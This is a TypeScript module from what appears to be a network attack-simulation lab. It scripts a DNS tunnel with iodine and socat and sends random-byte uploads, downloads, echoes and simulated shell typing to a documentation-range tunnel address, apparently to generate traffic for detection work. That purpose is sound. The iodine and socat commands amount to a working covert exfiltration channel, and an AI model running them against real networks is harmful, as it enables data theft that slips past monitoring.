import { randomBytes } from 'node:crypto';
import { writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { pause } from '../pause.ts';
import { createRandom, type Random } from '../random.ts';
import type { Attack, Lab, TimeWindow } from '../scenario.ts';
import { beside, untilReady } from './beside.ts';
import {
  answeringMachine,
  askedMachine,
  type NameServerPlace,
  nameServerQuestion,
  questionFootprint,
} from './name-server.ts';

/** IP over DNS by iodine, from one taken-over machine. */
export interface DnsTunnel {
  readonly attacker: number;
  readonly place: NameServerPlace;
  readonly zone: string;
  /** Record type of the questions; null lets iodine find out which gets through. */
  readonly recordType: 'NULL' | 'TXT' | 'CNAME' | 'MX' | 'SRV' | 'PRIVATE' | 'A' | null;
  /** Whether iodine may leave DNS for bare UDP on the same port. */
  readonly raw: boolean;
  /** Answers are held back until there is something to say; otherwise the client asks each second. */
  readonly lazy: boolean;
  readonly cargo: Cargo;
  readonly seed: number;
}

/** What goes through: nothing but signs of life, echoes, a shell's worth of typing, or files up or down. */
export type Cargo =
  | { readonly kind: 'nothing' }
  | { readonly kind: 'echoes'; readonly perSecond: number; readonly bytes: number }
  | { readonly kind: 'typing'; readonly meanPauseMs: number }
  | { readonly kind: 'upload' | 'download'; readonly bytes: number; readonly meanPauseMs: number };

/** RFC 5737's first block: neither the lab's subnet nor anybody outside it. */
const TUNNEL_SERVER_IP = '192.0.2.1';
const TUNNEL_PORT = '7000';
/** The client's device is there after some round trips. */
const CLIENT_START_MS = 1_500;

/** The attack, until its window is over. */
export function dnsTunnel(tunnel: DnsTunnel, window: TimeWindow): Attack {
  return {
    ...window,
    family: 'dns-tunnel',
    async play(lab, signal) {
      const password = randomBytes(6).toString('hex');
      const server = answeringMachine(lab.hosts, tunnel.place);
      const iodined = ['iodined', '-f', '-c', '-P', password, '-l', server.ip, `${TUNNEL_SERVER_IP}/27`, tunnel.zone];
      const helpers = [
        (until: AbortSignal) => lab.run(server, iodined, until),
        (until: AbortSignal) => lab.run(server, listenerCommand(tunnel.cargo), until),
      ];
      const attack = async (until: AbortSignal) => {
        await untilReady(lab, server, nameServerQuestion(server, tunnel.zone), until);
        const client = (inner: AbortSignal) =>
          lab.run(lab.hosts.attackers[tunnel.attacker], clientCommand(tunnel, lab, password), inner);
        await beside([client], (inner) => carry(tunnel, lab, inner), until);
      };
      await beside(helpers, attack, signal);
    },
    footprint: questionFootprint(tunnel.attacker, tunnel.place),
  };
}

function clientCommand(tunnel: DnsTunnel, lab: Lab, password: string): string[] {
  return [
    ['iodine', '-f', '-P', password],
    tunnel.recordType === null ? [] : ['-T', tunnel.recordType],
    tunnel.raw ? [] : ['-r'],
    tunnel.lazy ? [] : ['-L', '0'],
    askedMachine(lab.hosts, tunnel.place).ip,
    tunnel.zone,
  ].flat();
}

/** Takes files, or gives one; typing is echoed. Bytes are by chance: iodine packs what it carries, and zeros would vanish. */
function listenerCommand(cargo: Cargo): string[] {
  // Not bound to the tunnel's address: the device may not be there yet.
  const listen = `TCP-LISTEN:${TUNNEL_PORT},reuseaddr,fork`;
  if (cargo.kind === 'upload') return ['socat', '-u', listen, 'OPEN:/dev/null'];
  if (cargo.kind === 'download') return ['socat', '-U', listen, `OPEN:/dev/urandom,readbytes=${cargo.bytes}`];
  return ['socat', listen, 'PIPE'];
}

async function carry(tunnel: DnsTunnel, lab: Lab, signal: AbortSignal): Promise<void> {
  await pause(CLIENT_START_MS, signal);
  const random = createRandom(tunnel.seed);
  const { cargo } = tunnel;
  const host = lab.hosts.attackers[tunnel.attacker];
  const run = (argv: readonly string[]) => lab.run(host, argv, signal);
  if (cargo.kind === 'nothing') await untilAborted(signal);
  if (cargo.kind === 'echoes') {
    const interval = `u${Math.round(1_000_000 / cargo.perSecond)}`;
    await run(['hping3', '--icmp', '-q', '-n', '-i', interval, '-d', String(cargo.bytes), TUNNEL_SERVER_IP]);
  }
  if (cargo.kind !== 'typing' && cargo.kind !== 'upload' && cargo.kind !== 'download') return;
  const file = join(lab.scratch, `cargo-${tunnel.seed}`);
  while (!signal.aborted) {
    const bytes = cargo.kind === 'typing' ? random.integer(3, 60) : cargo.bytes;
    await writeFile(file, randomBytes(bytes));
    const [from, to] = [`OPEN:${file}`, `TCP:${TUNNEL_SERVER_IP}:${TUNNEL_PORT},connect-timeout=5`];
    await run(cargo.kind === 'upload' ? ['socat', '-u', from, to] : ['socat', '-t', '2', from, to]);
    await pause(pauseOf(random, cargo.meanPauseMs), signal);
  }
}

function pauseOf(random: Random, meanMs: number): number {
  return meanMs * random.between(0.3, 1.7);
}

function untilAborted(signal: AbortSignal): Promise<void> {
  return pause(24 * 3_600_000, signal);
}
